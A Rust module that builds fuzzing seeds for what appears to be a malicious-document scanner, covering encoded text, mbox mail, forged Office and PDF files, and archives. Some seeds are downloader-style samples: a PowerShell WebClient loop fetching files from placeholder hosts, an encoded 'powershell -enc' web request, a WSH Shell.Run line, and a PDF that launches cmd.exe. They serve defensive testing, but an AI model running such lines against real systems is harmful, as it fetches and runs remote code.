//! Where a fuzzer starts: small good files of every format, forged here.

use crate::forge::zip::{Entry, Lock, NameIn};
use crate::forge::{Chance, company, macros, pdf, zip};
use anyhow::{Result, ensure};
use hinomi_formats::mail::MboxSplitter;
use std::io::Write;

/// A seed larger than this only slows the fuzzer down.
const BYTES_MAX: usize = 24 << 10;
/// Documents looked at, to find small ones of every kind.
const DOCUMENTS: usize = 40;

/// A seed: target, name, bytes.
pub type Seed = (&'static str, String, Vec<u8>);

/// The seeds of all targets, the same at every call.
///
/// # Errors
/// When something cannot be forged.
pub fn seeds() -> Result<Vec<Seed>> {
    let mut seeds = written();
    seeds.extend(mails()?);
    seeds.extend(documents()?);
    seeds.extend(archives()?);
    for packed in [false, true] {
        let lines = vec!["invoice".to_owned()];
        let acts = vec![
            pdf::Act::Link("http://a.example/invoice.doc".to_owned()),
            pdf::Act::Launch("cmd.exe".to_owned()),
            pdf::Act::OpenScript("app.launchURL('http://b.example/x')".to_owned()),
            pdf::Act::Embedded("a.doc".to_owned(), b"invoice".to_vec()),
        ];
        let bytes = pdf::Pdf { lines, acts, packed }.write();
        seeds.push(("pdf", if packed { "packed" } else { "plain" }.to_owned(), bytes));
    }
    seeds.retain(|(_, _, bytes)| bytes.len() <= BYTES_MAX);
    Ok(seeds)
}

/// Seeds that are a few lines of text.
fn written() -> Vec<Seed> {
    let text: [(&'static str, &str, &[u8]); 17] = [
        ("text", "iso-2022-jp", b"ISO-2022-JP\n\x1b$B@A5a=q\x1b(B.doc"),
        ("text", "shift-jis", b"Shift_JIS\n\x90\xbf\x8b\x81\x8f\x91"),
        ("text", "euc-jp", b"x-euc-jp\n\xc0\xc1\xb5\xe1\xbd\xf1"),
        ("text", "utf-7", b"utf-7\n+ZeVnLIqe-"),
        ("text", "lying", b"us-ascii\n\xe8\xab\x8b\xe6\xb1\x82"),
        ("mbox", "three", b"From a@b.example Tue Jul 21 09:30:00 2020\nSubject: a\n\n>From the start\n\nFrom c@d.example Tue Jul 21 09:31:00 2020\n\nb\n\nFrom - Tue Jul 21 09:32:00 2020\r\n\r\nc\r\n"),
        ("url", "glued", b"$u='http://a.example/x*https://b.example/y'.Split('*')"),
        ("url", "odd", b"hxxp://a[.]example/ http://u:p@0x7f.1:8080/%41?q=http://c.example <https://\xe4\xbe\x8b.example>"),
        ("decode", "plain-base64", b"\x00aHR0cDovL2EuZXhhbXBsZS94"),
        ("decode", "powershell", b"\x00powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8A"),
        ("decode", "json", b"\x01F{\"a\":[1,{\"b\":\"x\"}]}"),
        ("decode", "four", b"\x04\x01\x14(<10 20 30 http://a.example/"),
        ("recipe", "base64", b"From_Base64('A-Za-z0-9+/=',true)Decode_text('UTF-16LE (1200)')\naAB0AHQAcAA="),
        ("recipe", "json", b"[{\"op\":\"From Hex\",\"args\":[\"Auto\"]},{\"op\":\"Gunzip\",\"args\":[]}]\n1f8b0800"),
        ("recipe", "xor", b"XOR({'option':'Hex','string':'2a'},'Standard',false)Find_/_Replace({'option':'Regex','string':'a+'},'b',true,false,true,false)\naaaa"),
        ("script_text", "wsh", b"Set s = CreateObject(\"WScript.\" & \"Shell\")\ns.Run \"cmd /c echo http://a.example/x\", 0\n"),
        ("script_text", "powershell", b"$w=New-Object Net.WebClient;foreach($u in 'http://a.example/x','http://b.example/y'){try{$w.DownloadFile($u,'t.tmp')}catch{}}"),
    ];
    text.into_iter().map(|(target, name, bytes)| (target, name.to_owned(), bytes.to_vec())).collect()
}

/// Messages of the sample company, the smallest with and without a file.
fn mails() -> Result<Vec<Seed>> {
    let company = company::build()?;
    let mut found: Vec<&[u8]> = Vec::new();
    for (_, bytes) in company.folder.iter().filter(|(name, _)| name.ends_with(".mbox")) {
        let (mut splitter, mut ranges) = (MboxSplitter::new(), Vec::new());
        splitter.push(bytes, &mut ranges);
        splitter.finish(&mut ranges);
        let message = |range: std::ops::Range<u64>| {
            bytes.get(usize::try_from(range.start).ok()?..usize::try_from(range.end).ok()?)
        };
        found.extend(ranges.into_iter().filter_map(message));
    }
    found.sort_by_key(|bytes| (bytes.len(), *bytes));
    let (with, without): (Vec<&[u8]>, Vec<&[u8]>) =
        found.into_iter().partition(|bytes| bytes.windows(11).any(|window| window == b"attachment;"));
    ensure!(with.len() >= 3 && without.len() >= 3, "failed to find messages in the sample company");
    let named = with.into_iter().take(3).chain(without.into_iter().take(3)).enumerate();
    Ok(named
        .flat_map(|(at, bytes)| {
            ["mail", "tree"].map(|target| (target, format!("message-{at}"), bytes.to_vec()))
        })
        .collect())
}

/// Documents, an attack and an honest one of every container, and what is in them.
fn documents() -> Result<Vec<Seed>> {
    let mut seeds = Vec::new();
    let mut kinds = std::collections::BTreeSet::new();
    for number in 0..DOCUMENTS {
        let macros::Forged { bytes, truth } = macros::any(number, 1)?;
        let extension = truth.container.extension();
        if bytes.len() > BYTES_MAX || !kinds.insert((extension, truth.verdict)) {
            continue;
        }
        let name = format!("{}.{extension}", truth.verdict);
        let targets: &[&'static str] =
            if bytes.starts_with(b"PK") { &["office", "zip", "tree"] } else { &["office", "cfb", "tree"] };
        seeds.extend(targets.iter().map(|target| (*target, name.clone(), bytes.clone())));
        let source: Vec<String> = truth.modules.into_iter().map(|module| module.code).collect();
        seeds.push(("script_vba", name.clone(), source.join("\n'---\n").into_bytes()));
        seeds.extend(truth.command.map(|line| ("command", name, line.into_bytes())));
    }
    Ok(seeds)
}

/// Archives with each lock and each way to write a name.
fn archives() -> Result<Vec<Seed>> {
    let mut chance = Chance::new(1);
    let entry =
        |name_in, lock| Entry {
            name: "請求書.txt".to_owned(), name_in, bytes: b"invoice ".repeat(40), lock
        };
    let one = |lock| vec![entry(NameIn::Cp932, lock)];
    let inner = zip::write(&one(Lock::None), &mut chance);
    let nested = vec![Entry::open("inner.zip", inner), entry(NameIn::Utf8, Lock::None)];
    let mut seeds = Vec::new();
    for (name, entries) in [
        ("open", one(Lock::None)),
        ("zipcrypto", one(Lock::ZipCrypto("infected".to_owned()))),
        ("aes", one(Lock::Aes256("infected".to_owned()))),
        ("nested", nested),
    ] {
        let bytes = zip::write(&entries, &mut chance);
        seeds.extend(["zip", "tree"].map(|target| (target, format!("{name}.zip"), bytes.clone())));
    }
    let mut gzip =
        flate2::GzBuilder::new().filename("a.txt").write(Vec::new(), flate2::Compression::default());
    gzip.write_all(&b"invoice ".repeat(40))?;
    let bytes = gzip.finish()?;
    seeds.push(("gzip", "two-members".to_owned(), bytes.repeat(2)));
    seeds.push(("gzip", "one".to_owned(), bytes));
    Ok(seeds)
}
